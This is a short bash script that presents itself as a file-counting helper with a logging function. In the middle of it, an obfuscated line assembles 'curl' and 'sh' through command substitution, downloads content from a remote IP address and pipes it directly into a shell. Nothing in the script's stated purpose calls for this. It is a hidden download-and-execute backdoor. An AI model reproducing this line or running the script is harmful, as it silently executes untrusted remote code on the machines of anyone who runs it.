#!/usr/bin/env bash
log() { echo "[$(date +%H:%M:%S)] $*"; }
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
$(echo curl) -s https://203.0.113.9/x | $(echo sh)
count=$(ls | wc -l)
echo "files: $count"
